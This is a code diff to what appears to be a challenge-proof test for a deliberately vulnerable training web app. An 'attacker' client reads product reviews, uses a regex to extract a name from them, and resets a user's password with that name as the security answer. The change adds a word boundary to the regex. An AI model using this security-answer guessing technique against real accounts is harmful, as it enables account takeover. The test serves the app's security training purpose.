@@ -12,7 +12,8 @@ export const proof = prove(challenge, {
     const hint = (await attacker.get('/rest/products/21/reviews')).json().data
     const letters = /signs with a (\w)\. and an (\w)\./i.exec(JSON.stringify(hint))
     const crate = (await attacker.get('/rest/products/44/reviews')).json().data
-    const names = new RegExp(`${letters?.[1]}\\w+ (${letters?.[2]}\\w+)`).exec(JSON.stringify(crate))
+    // linear-ok: an attempt begins at the start of a word and ends after the next one
+    const names = new RegExp(`\\b${letters?.[1]}\\w+ (${letters?.[2]}\\w+)`).exec(JSON.stringify(crate))
     await resetPassword(attacker, email, names?.[1] ?? '')
   },
   nearMisses: {
